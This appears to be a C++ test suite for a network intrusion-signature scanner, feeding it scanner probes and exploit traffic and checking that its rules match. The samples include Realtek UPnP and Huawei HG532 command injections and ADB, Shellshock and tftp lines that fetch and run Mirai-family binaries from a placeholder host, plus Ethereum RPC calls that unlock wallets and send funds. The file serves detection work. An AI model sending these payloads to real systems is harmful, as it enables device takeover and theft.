#include <unistd.h>

#include <catch2/catch.hpp>
#include <cstdio>
#include <cstdlib>
#include <fstream>
#include <filesystem>
#include <set>
#include <string>
#include <vector>

#include "packet/parser.hpp"
#include "signature/flow_filter.hpp"
#include "signature/signature_db.hpp"
#include "signature/signature_scanner.hpp"
#include "signature_helpers.hpp"

using namespace scanscope;
using namespace scanscope::test;

namespace {

struct positive {
  const char* rule;     // the rule that must fire
  uint16_t port;        // destination port
  std::string payload;  // what a real client sent (see the capture named in each comment)
  bool tcp = true;      // false: a UDP datagram
};

// Bytes real clients sent, copied from the captures made by test/data/make-payload-captures.sh.
std::vector<positive> positives() {
  const std::string victim = "0x407d73d8a49eeb85d32cf465507dd71d507100c1";
  auto rpc = [](const std::string& method, const std::string& params, int id) {
    // ethers 6 (jsonrpc-ethers.pcap) orders the members method, params, id, jsonrpc.
    return "{\"method\":\"" + method + "\",\"params\":" + params + ",\"id\":" + std::to_string(id) +
           ",\"jsonrpc\":\"2.0\"}";
  };
  const std::string cnxn_header(
      "CNXN\x01\x00\x00\x01\x00\x00\x10\x00\x77\x00\x00\x00\x40\x2e\x00\x00\xbc\xb1\xa7\xb1", 24);
  const std::string upnp =
      "POST /picsdesc.xml HTTP/1.1\r\nHost: 10.99.0.2:52869\r\nSOAPAction: "
      "urn:schemas-upnp-org:service:WANIPConnection:1#AddPortMapping\r\n\r\n<?xml version=\"1.0\" "
      "?><s:Envelope><s:Body><u:AddPortMapping xmlns:u=\"urn:schemas-upnp-org:service:"
      "WANIPConnection:1\"><NewRemoteHost></NewRemoteHost><NewExternalPort>47450</"
      "NewExternalPort><NewProtocol>TCP</NewProtocol><NewInternalPort>44382</NewInternalPort>"
      "<NewInternalClient>`cd /var; rm -rf nig; wget http://192.0.2.1/bins/satori.mips -O nig; "
      "chmod 777 nig; ./nig realtek.selfrep`</NewInternalClient></u:AddPortMapping></s:Body>"
      "</s:Envelope>";
  const std::string hg532 =
      "POST /ctrlt/DeviceUpgrade_1 HTTP/1.1\r\nHost: 10.99.0.2:37215\r\nAuthorization: Basic "
      "ZHNsZi1jb25maWc6YWRtaW4=\r\n\r\n<?xml version=\"1.0\" ?><s:Envelope><s:Body><u:Upgrade "
      "xmlns:u=\"urn:schemas-upnp-org:service:WANPPPConnection:1\"><NewStatusURL>$(/bin/busybox "
      "wget -g 192.0.2.1 -l /tmp/.f -r /bins/satori.mips; /tmp/.f huawei.selfrep)</NewStatusURL>"
      "<NewDownloadURL>$(echo HUAWEIUPNP)</NewDownloadURL></u:Upgrade></s:Body></s:Envelope>";
  const std::string adb_shell =
      std::string(
          "OPEN\x01\x00\x00\x00\x00\x00\x00\x00\x5a\x00\x00\x00\x00\x00\x00\x00\xb0\xaf"
          "\xba\xb1",
          24) +
      std::string(
          "shell:cd /data/local/tmp; busybox wget http://192.0.2.1/ug.arm7 -O .x; chmod "
          "777 .x; ./.x\0",
          90);
  return {
      {"eth-accounts", 8545, http_post("/", rpc("eth_accounts", "[]", 1))},
      {"eth-blocknumber", 8545, http_post("/", rpc("eth_blockNumber", "[]", 2))},
      {"eth-getbalance", 8545,
       http_post("/", rpc("eth_getBalance", "[\"" + victim + "\",\"latest\"]", 3))},
      {"net-version", 8545, http_post("/", rpc("net_version", "[]", 4))},
      {"web3-clientversion", 8545, http_post("/", rpc("web3_clientVersion", "[]", 5))},
      // curl -d (jsonrpc-curl.pcap) puts jsonrpc first.
      {"eth-coinbase", 8545,
       http_post("/", "{\"jsonrpc\":\"2.0\",\"method\":\"eth_coinbase\",\"params\":[],\"id\":1}")},
      {"personal-listaccounts", 8545,
       http_post("/", "{\"jsonrpc\":\"2.0\",\"method\":\"personal_listAccounts\",\"id\":1}")},
      {"admin-nodeinfo", 8545, http_post("/", "{\"jsonrpc\":\"2.0\",\"method\": \"admin_peers\"}")},
      {"personal-unlockaccount", 8545,
       http_post("/", rpc("personal_unlockAccount", "[\"" + victim + "\",\"123456\",0]", 6))},
      {"eth-sendtransaction", 8545,
       http_post("/",
                 rpc("eth_sendTransaction",
                     "[{\"from\":\"" + victim + "\",\"to\":\"0xcdcd\",\"value\":\"0x1\"}]", 9))},
      {"eth-signtransaction", 8545, http_post("/", rpc("eth_signTransaction", "[{}]", 9))},
      {"personal-sendtransaction", 8545,
       http_post("/", rpc("personal_sendTransaction", "[{},\"pw\"]", 9))},
      {"personal-newaccount", 8545, http_post("/", rpc("personal_newAccount", "[\"hijack\"]", 10))},
      {"miner-setetherbase", 8545, http_post("/", rpc("miner_setEtherbase", "[\"0xcdcd\"]", 11))},
      {"miner-start", 8545, http_post("/", rpc("miner_start", "[1]", 12))},
      {"jsonrpc-batch", 8545,
       http_post("/",
                 "[" + rpc("eth_accounts", "[]", 1) + "," + rpc("net_version", "[]", 2) + "]")},
      // nc with the Claymore request (claymore.pcap), as in the report of January 2018.
      {"claymore-getstat1", 3333, "{\"id\":0,\"jsonrpc\":\"2.0\",\"method\":\"miner_getstat1\"}\n"},
      {"claymore-getstat2", 3333, "{\"id\":0,\"jsonrpc\":\"2.0\",\"method\":\"miner_getstat2\"}\n"},
      {"claymore-file", 3333,
       "{\"id\":0,\"jsonrpc\":\"2.0\",\"method\":\"miner_file\",\"params\":[\"reboot.bat\",\"\"]}"
       "\n"},
      {"claymore-restart", 3333, "{\"id\":0,\"jsonrpc\":\"2.0\",\"method\":\"miner_restart\"}\n"},
      {"claymore-control-gpu", 3333,
       "{\"id\":0,\"jsonrpc\":\"2.0\",\"method\":\"control_gpu\",\"params\":[0, 1]}\n"},
      // adb 29 (adb.pcap) and, for the legacy version, the report's "43 4e 58 4e 00 00 00 01".
      {"adb-cnxn", 5555, cnxn_header},
      {"adb-cnxn-legacy", 5555,
       std::string("CNXN\x00\x00\x00\x01\x00\x10\x00\x00\x07\x00\x00\x00\x32\x02\x00\x00\xbc\xb1"
                   "\xa7\xb1host::\x00",
                   31)},
      {"adb-host-banner", 5555, "host::features=remount_shell,abb_exec,abb,apex,shell_v2"},
      {"adb-shell-download", 5555, adb_shell},
      {"adb-shell-data-local-tmp", 5555, adb_shell},
      {"adb-shell-chmod-run", 5555, adb_shell},
      // curl with exploit-shaped bodies (exploits.pcap).
      {"realtek-upnp-addportmapping", 52869, upnp},
      {"upnp-picsdesc-post", 52869, upnp},
      {"huawei-hg532-deviceupgrade", 37215, hg532},
      {"huawei-hg532-injection", 37215, hg532},
      {"wget-http", 52869, upnp},
      {"busybox-wget-tftp", 37215, hg532},
      {"tftp-get", 23, "cd /tmp; tftp -g -r mips 192.0.2.1; chmod 777 mips; ./mips\r\n"},
      {"curl-download", 80,
       "GET /x HTTP/1.1\r\nUser-Agent: () { :; }; curl -s http://192.0.2.1/i.sh | sh\r\n\r\n"},
      {"mirai-family-binary", 52869, upnp},
      {"bins-directory-binary", 37215, hg532},
      {"selfrep-marker", 37215, hg532},
      // Tools named by payload (make-payload-tool-captures.sh): nmap -sC's NSE request
      // (nmap-scripts.pcap), nmap -sV's service probes (nmap-version.pcap, as
      // nmap-service-probes has them), masscan --banners (masscan-banners.pcap), and the
      // requests of http-clients.pcap.
      {"nmap-nse-user-agent", 80,
       "GET / HTTP/1.1\r\nConnection: close\r\nUser-Agent: Mozilla/5.0 (compatible; Nmap "
       "Scripting Engine; https://nmap.org/book/nse.html)\r\nHost: 10.99.0.2\r\n\r\n"},
      {"nmap-probe-404", 3333, "GET /nice%20ports%2C/Tri%6Eity.txt%2ebak HTTP/1.0\r\n\r\n"},
      {"nmap-probe-sip", 3333,
       "OPTIONS sip:nm SIP/2.0\r\nVia: SIP/2.0/TCP nm;branch=foo\r\nFrom: <sip:nm@nm>;tag=root\r\n"
       "To: <sip:nm2@nm2>\r\nCall-ID: 50000\r\nCSeq: 42 OPTIONS\r\n\r\n"},
      {"nmap-probe-rdp-cookie", 3333,
       std::string("\x03\x00\x00\x2a\x25\xe0\x00\x00\x00\x00\x00"
                   "Cookie: mstshash=nmap\r\n"
                   "\x01\x00\x08\x00\x03\x00\x00\x00",
                   42)},
      {"nmap-probe-tls-hello", 3333,
       std::string("\x16\x03\x00\x00\x69\x01\x00\x00\x65\x03\x03\x55\x1c\xa7\xe4random1random2"
                   "random3random4\x00\x00\x0c\x00\x2f",
                   48)},
      {"nmap-probe-ssl-hello", 3333,
       std::string("\x16\x03\x00\x00\x53\x01\x00\x00\x4f\x03\x00\x3f\x47\xd7\xf7\xba\x2c\xee"
                   "\xea\xb2\x60\x7e\xf3\x00\xfd\x82\x7b\xb9\xd5\x96\xc8w",
                   32)},
      {"nmap-probe-rpc", 3333,
       std::string("\x80\x00\x00\x28\x72\xfe\x1d\x13\x00\x00\x00\x00\x00\x00\x00\x02\x00\x01"
                   "\x86\xa0\x00\x01\x97\x7c",
                   24)},
      {"nmap-probe-kerberos", 3333,
       std::string("\x00\x00\x00\x71\x6a\x81\x6e\x30\x81\x6b\xa1\x03\x02\x01\x05\xa2\x03\x02"
                   "\x01\x0a\xa4\x81\x5e\x30\x5c\xa0\x07\x03\x05\x00\x50\x80\x00\x10\xa2\x04"
                   "\x1b\x02NM\xa3\x17\x30\x15\xa0\x03\x02\x01\x00\xa1\x0e\x30\x0c\x1b\x06krbtgt"
                   "\x1b\x02NM",
                   65)},
      {"masscan-user-agent", 80,
       "GET / HTTP/1.0\r\nUser-Agent: masscan/1.3 (https://github.com/robertdavidgraham/masscan)"
       "\r\nAccept: */*\r\n\r\n"},
      {"masscan-user-agent", 80,
       "GET / HTTP/1.0\r\nUser-Agent: ivre-masscan/1.3 https://github.com/robertdavidgraham/\r\n"
       "Accept: */*\r\n\r\n"},
      // ZMap's example probe files (examples/udp-probes): dns_53.pkt as zmap4-udp.pcap and
      // zmap-udp.pcap carry it, memcache_11211.pkt and portmap_111.pkt as the files hold them.
      {"zmap-probe-dns", 53,
       std::string("\x34\xef\x01\x00\x00\x01\x00\x00\x00\x00\x00\x00\x07VERSION\x04"
                   "BIND\x00"
                   "\x00\x10\x00\x03",
                   30),
       false},
      {"zmap-probe-memcached", 11211, std::string("ZM\x00\x00\x00\x01\x00\x00stats items\r\n", 21),
       false},
      {"zmap-probe-portmap", 111,
       std::string("\x1a\xa9\xff\xe1\x00\x00\x00\x00\x00\x00\x00\x02\x00\x01\x86\xa0\x00\x00"
                   "\x00\x02\x00\x00\x00\x04\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00"
                   "\x00\x00\x00\x00",
                   40),
       false},
      // Censys's agent as web logs record its scanners' requests.
      {"censys-user-agent", 80,
       "GET / HTTP/1.1\r\nHost: 192.0.2.7\r\nUser-Agent: Mozilla/5.0 (compatible; "
       "CensysInspect/1.1; +https://about.censys.io/)\r\nAccept: */*\r\n\r\n"},
      {"zmap-probe-portmap", 111,
       std::string("er\n7\x00\x00\x00\x00\x00\x00\x00\x02\x00\x01\x86\xa0\x00\x00\x00\x02\x00\x00"
                   "\x00\x04",
                   24),
       false},
      {"zgrab2-user-agent", 37215,
       "GET / HTTP/1.1\r\nHost: 10.99.0.2:37215\r\nUser-Agent: Mozilla/5.0 zgrab/0.x\r\n"
       "Accept-Encoding: gzip\r\n\r\n"},
      // nmap -sU's payloads (nmap-udp.pcap: to 111; nmap-payloads' SIP probe to 5060).
      {"nmap-probe-rpc-udp", 111,
       std::string("\x72\xfe\x1d\x13\x00\x00\x00\x00\x00\x00\x00\x02\x00\x01\x86\xa0\x00\x01"
                   "\x97\x7c\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00"
                   "\x00\x00\x00",
                   40),
       false},
      {"nmap-probe-sip-udp", 5060,
       "OPTIONS sip:nm SIP/2.0\r\nVia: SIP/2.0/UDP nm;branch=foo;rport\r\nFrom: <sip:nm@nm>;"
       "tag=root\r\nTo: <sip:nm2@nm2>\r\nCall-ID: 50000\r\nCSeq: 42 OPTIONS\r\n\r\n",
       false},
      {"http-client-user-agent", 52869,
       "GET / HTTP/1.1\r\nHost: 10.99.0.2:52869\r\nUser-Agent: curl/7.88.1\r\nAccept: */*\r\n\r\n"},
  };
}

}  // namespace

TEST_CASE("every default rule fires on real client bytes", "[signatures]") {
  auto scanner = make_scanner("positives");
  std::set<std::string> covered;
  for (const positive& p : positives()) {
    connection c(*scanner, p.port, p.tcp);
    const auto hits = c.send(p.payload);
    INFO(p.rule << " on port " << p.port);
    CHECK(hits.count(p.rule) == 1);
    covered.insert(p.rule);
  }
  for (const signature_rule& r : default_db().rules()) {
    INFO("rule without a positive sample: " << r.name);
    CHECK(covered.count(r.name) == 1);
  }
}

TEST_CASE("benign look-alikes fire no rule", "[signatures]") {
  auto scanner = make_scanner("negatives");
  const std::pair<uint16_t, std::string> negatives[] = {
      {52869,
       "GET / HTTP/1.1\r\nHost: 10.99.0.2:52869\r\nUser-Agent: Mozilla/5.0 (X11; Linux x86_64; "
       "rv:115.0) Gecko/20100101 Firefox/115.0\r\n\r\n"},
      // Near misses of the tools' marks: nmap's generic probes (other tools send them too), a
      // SIP OPTIONS and an RDP cookie of other names, an RPC call with another transaction
      // ID, User-Agents that only mention a tool.
      {3333, "OPTIONS / RTSP/1.0\r\n\r\n"},
      {5060, "OPTIONS sip:alice@example.test SIP/2.0\r\nVia: SIP/2.0/TCP pc33;branch=z9hG4bK\r\n"},
      {3389, std::string("\x03\x00\x00\x2a\x25\xe0\x00\x00\x00\x00\x00"
                         "Cookie: mstshash=nmaq\r\n",
                         34)},
      {111, std::string("\x80\x00\x00\x28\x3e\xec\xe3\xca\x00\x00\x00\x00\x00\x00\x00\x02\x00"
                        "\x01\x86\xa0",
                        20)},
      {80,
       "GET /search?q=masscan/1.3+zgrab/0.x+curl/8 HTTP/1.1\r\nUser-Agent: Mozilla/5.0 "
       "(compatible; a nmap and zgrab/0.x reader)\r\n\r\n"},
      {37215,
       "POST / HTTP/1.1\r\nContent-Type: text/xml\r\n\r\n<?xml version=\"1.0\"?><s:Envelope>"
       "<s:Body><u:GetExternalIPAddress/></s:Body></s:Envelope>"},
      {8545,
       http_post("/", "{\"jsonrpc\":\"2.0\",\"method\":\"eth_gasPrice\",\"params\":[],\"id\":7}")},
      {8545, http_post("/", "{\"accounts\":[],\"note\":\"eth_accounts is a method name\"}")},
      {8545, http_post("/api", "{\"items\":[{\"id\":1},{\"id\":2}]}")},
      {3333, "GET / HTTP/1.0\r\n\r\n"},
      {3333, "{\"id\":1,\"method\":\"mining.subscribe\",\"params\":[\"cgminer/4.10\"]}\n"},
      {5555, std::string("CNXM\x01\x00\x00\x01", 8)},
      {5555, "SSH-2.0-OpenSSH_9.2p1 Debian-2+deb12u3\r\n"},
      {443, std::string("\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03", 11)},
      {80, "GET /downloads/wget-manual.html HTTP/1.1\r\nHost: example.test\r\n\r\n"},
      {80, "POST /upload HTTP/1.1\r\n\r\nfile=photo.arm&size=12"},
  };
  for (const auto& [port, payload] : negatives) {
    connection c(*scanner, port);
    INFO(payload);
    CHECK(c.send(payload).empty());
  }
  // UDP near misses of the tools' probes: a VERSION.BIND query with another transaction ID, a
  // portmapper call with another XID, SIP from other names, memcached from another client.
  const std::pair<uint16_t, std::string> udp_negatives[] = {
      {53, std::string("\x12\x34\x01\x00\x00\x01\x00\x00\x00\x00\x00\x00\x07VERSION\x04"
                       "BIND\x00"
                       "\x00\x10\x00\x03",
                       30)},
      {111, std::string("\x3e\xec\xe3\xca\x00\x00\x00\x00\x00\x00\x00\x02\x00\x01\x86\xa0", 16)},
      {5060, "OPTIONS sip:alice@example.test SIP/2.0\r\nVia: SIP/2.0/UDP pc33;branch=z9hG4bK\r\n"},
      {11211, std::string("\x00\x01\x00\x00\x00\x01\x00\x00stats\r\n", 15)},
  };
  for (const auto& [port, payload] : udp_negatives) {
    connection c(*scanner, port, false);
    INFO(port);
    CHECK(c.send(payload).empty());
  }
  // The rules are port-bound: Claymore's request to a web port is not Claymore.
  connection web(*scanner, 80);
  CHECK(web.send("{\"id\":0,\"jsonrpc\":\"2.0\",\"method\":\"miner_getstat1\"}\n").empty());
}

TEST_CASE("signatures split over TCP segments match in stream mode", "[signatures]") {
  auto scanner = make_scanner("split");
  SECTION("adb sends the CNXN header and the host:: banner in separate segments") {
    connection c(*scanner, 5555);
    CHECK(c.send(std::string("CNXN\x01\x00\x00\x01\x00\x00\x10\x00\x77\x00\x00\x00\x40\x2e"
                             "\x00\x00\xbc\xb1\xa7\xb1",
                             24)) == std::set<std::string>{"adb-cnxn"});
    CHECK(c.send("host::features=shell_v2,cmd") == std::set<std::string>{"adb-host-banner"});
  }
  SECTION("an HTTP body after its headers, split inside the method name") {
    connection c(*scanner, 8545);
    CHECK(c.send("POST / HTTP/1.1\r\nContent-Length: 60\r\n\r\n").empty());
    CHECK(c.send("{\"jsonrpc\":\"2.0\",\"method\":\"personal_unlo").empty());
    CHECK(c.send("ckAccount\",\"params\":[]}") == std::set<std::string>{"personal-unlockaccount"});
  }
  SECTION("each connection counts a rule once") {
    connection c(*scanner, 8545);
    CHECK(c.send(http_post("/", "{\"method\":\"eth_accounts\"}")).count("eth-accounts") == 1);
    CHECK(c.send(http_post("/", "{\"method\":\"eth_accounts\"}")).empty());
  }
  SECTION("a datagram is scanned on its own") {
    auto udp_db_scanner = make_scanner("udp");
    connection c(*udp_db_scanner, 69, false);
    CHECK(c.send("busybox tftp -g -r x 192.0.2.1").count("busybox-wget-tftp") == 0);  // tcp rule
    // The shipped UDP rules are bound to a few ports: a rule file of its own proves UDP is
    // scanned on any port, each datagram whole and alone (half a pattern in one does not join
    // the other half).
    const std::string path = "test-udp-rules-" + std::to_string(std::rand()) + ".rules";
    std::ofstream(path) << "rule 1 tftp-get download udp/69 /tftp -g -r/\n"
                           "rule 2 any-port-probe recon any/any /probe-marker/\n";
    std::string error;
    auto db = signature_db::load(path, "", error);
    std::remove(path.c_str());
    INFO(error);
    REQUIRE(db);
    auto s = signature_scanner::create(*db, "udp-rules", 256, 60000000000ULL, 65536, error);
    REQUIRE(s);
    const auto datagram = [](uint16_t port, const std::string& text) {
      ipv4_fields ip;
      ip.proto = 17;
      return ethernet(0x0800) + ipv4(ip, udp(40000, port, bytes(text.begin(), text.end())));
    };
    CHECK(rule_hits(*s, *db, datagram(69, "busybox tftp -g -r x 192.0.2.1")) ==
          std::vector<std::string>{"tftp-get"});
    CHECK(rule_hits(*s, *db, datagram(53, "tftp -g -r on another port")).empty());
    CHECK(rule_hits(*s, *db, datagram(53, "a probe-marker")) ==
          std::vector<std::string>{"any-port-probe"});
    CHECK(rule_hits(*s, *db, datagram(69, "tftp -g")).empty());
    CHECK(rule_hits(*s, *db, datagram(69, " -r x")).empty());
    CHECK(s->counters().packets.read() == 5);
  }
  CHECK(scanner->counters().errors.read() == 0);
}

TEST_CASE("a SYN on a followed 4-tuple starts the connection's stream afresh", "[signatures]") {
  // Scanners with a fixed source port (Mirai's loader, masscan) reuse the 4-tuple; the new
  // connection's sequence numbers and matches have nothing to do with the old one's.
  auto scanner = make_scanner("reuse");
  const std::string request = http_post("/", "{\"method\":\"eth_accounts\"}");
  SECTION("the new connection's request counts again, even behind the old sequence numbers") {
    connection c(*scanner, 8545);
    CHECK(c.send(request).count("eth-accounts") == 1);
    c.reopen(7);  // far behind where the old stream stood
    CHECK(c.send(request).count("eth-accounts") == 1);
  }
  SECTION("half a method name before the SYN does not join the half after it") {
    connection c(*scanner, 8545);
    CHECK(c.send("POST / HTTP/1.1\r\n\r\n{\"jsonrpc\":\"2.0\",\"method\":\"personal_unlo").empty());
    c.reopen(500000);
    CHECK(c.send("ckAccount\",\"params\":[]}").empty());
  }
  SECTION("each of 200 followed flows is found by its SYN") {
    // 200 flows in a 256-slot table, each left in the middle of a method name; a SYN on each
    // 4-tuple must end it (the flow filter must not answer "absent" for any), so that the rest
    // of the name no longer completes the match.
    std::vector<connection> flows;
    for (int i = 0; i < 200; ++i) {
      flows.emplace_back(*scanner, 8545);
      CHECK(flows.back().send("{\"method\":\"eth_acc").empty());
    }
    for (connection& c : flows) {
      c.reopen(1);
      CHECK(c.send("ounts\"}").empty());
    }
    connection control(*scanner, 8545);
    CHECK(control.send("{\"method\":\"eth_acc").empty());
    CHECK(control.send("ounts\"}").count("eth-accounts") == 1);
  }
  CHECK(scanner->counters().errors.read() == 0);
}

TEST_CASE("a request closed in its own segment is scanned without taking a flow slot",
          "[signatures]") {
  // Eight slots, all holding connections in the middle of a method name; then a hundred
  // one-shot requests (payload with FIN, and with RST), each matching on its own.
  std::string error;
  auto scanner =
      signature_scanner::create(default_db(), "oneshot", 8, 60000000000ULL, 65536, error);
  INFO(error);
  REQUIRE(scanner);
  std::vector<connection> followed;
  for (int i = 0; i < 8; ++i) {
    followed.emplace_back(*scanner, 8545);
    CHECK(followed.back().send("{\"method\":\"eth_acc").empty());
  }
  REQUIRE(scanner->flow_counters().live.read() == 8);
  for (int i = 0; i < 100; ++i) {
    connection once(*scanner, i % 2 ? 3333 : 8545);
    const uint8_t closes = (i % 4 < 2 ? tcp_flag::fin : tcp_flag::rst) | tcp_flag::ack;
    const auto hits = i % 2 ? once.send("{\"id\":0,\"method\":\"miner_getstat1\"}\n", closes)
                            : once.send(http_post("/", "{\"method\":\"net_version\"}"), closes);
    CHECK(hits.count(i % 2 ? "claymore-getstat1" : "net-version") == 1);
  }
  CHECK(scanner->flow_counters().live.read() == 8);
  CHECK(scanner->flow_counters().evicted.read() == 0);
  for (connection& c : followed) {
    CHECK(c.send("ounts\"}").count("eth-accounts") == 1);
  }
  CHECK(scanner->counters().packets.read() == 8 + 100 + 8);
  CHECK(scanner->counters().errors.read() == 0);
}

TEST_CASE("a match that needs the end of the data counts when the connection ends",
          "[signatures]") {
  // The binary-name rules end in \b: a name that is the last thing a connection sends is only
  // known to end there once the connection ends (FIN or RST).
  const std::string dropper = "cd /tmp; cat /var/bins/mirai.arm7";
  const std::set<std::string> names{"mirai-family-binary", "bins-directory-binary"};
  const uint8_t fin = tcp_flag::fin | tcp_flag::ack;
  auto scanner = make_scanner("end");
  SECTION("a request closed in its own segment") {
    connection c(*scanner, 23);
    CHECK(c.send(dropper, fin) == names);
    connection rst(*scanner, 23);
    CHECK(rst.send(dropper, tcp_flag::rst | tcp_flag::ack) == names);
  }
  SECTION("a followed connection, on the FIN that ends it") {
    connection c(*scanner, 23);
    CHECK(c.send(dropper.substr(0, 24)).empty());
    CHECK(c.send(dropper.substr(24)).empty());  // `arm7x` would not match: not known yet
    CHECK(c.send("", fin) == names);
    CHECK(scanner->flow_counters().live.read() == 0);
  }
  SECTION("a retransmission that carries the FIN") {
    connection c(*scanner, 23);
    CHECK(c.send(dropper).empty());
    CHECK(c.retransmit(dropper, fin) == names);
    CHECK(scanner->flow_counters().live.read() == 0);
  }
  SECTION("the name going on past the match is no match, closed or not") {
    connection c(*scanner, 23);
    CHECK(c.send(dropper + "x", fin).empty());
    connection followed(*scanner, 23);
    CHECK(followed.send(dropper).empty());
    CHECK(followed.send("x", fin).empty());
  }
  SECTION("a connection that does not end gives no end") {
    connection c(*scanner, 23);
    CHECK(c.send(dropper).empty());
    c.reopen(9);  // the same 4-tuple, a new connection: the old one's data did not end
    CHECK(c.send("", fin).empty());
  }
  CHECK(scanner->counters().errors.read() == 0);
}

TEST_CASE("the end of what --scan-bytes lets through is not the end of the data",
          "[signatures]") {
  const std::string dropper = "cd /tmp; cat /var/bins/mirai.arm7";
  const uint8_t fin = tcp_flag::fin | tcp_flag::ack;
  std::string error;
  auto scanner = signature_scanner::create(default_db(), "cut", 8, 60000000000ULL,
                                           static_cast<uint32_t>(dropper.size()), error);
  INFO(error);
  REQUIRE(scanner);
  // What is scanned ends right after the name in both; the data goes on.
  connection once(*scanner, 23);
  CHECK(once.send(dropper + "x", fin).empty());
  connection followed(*scanner, 23);
  CHECK(followed.send(dropper.substr(0, 24)).empty());
  CHECK(followed.send(dropper.substr(24) + "x", fin).empty());
  CHECK(scanner->counters().truncated.read() == 2);
  // Within the limit the same request matches.
  connection whole(*scanner, 23);
  CHECK(whole.send(dropper, fin).count("mirai-family-binary") == 1);
  CHECK(scanner->counters().errors.read() == 0);
}
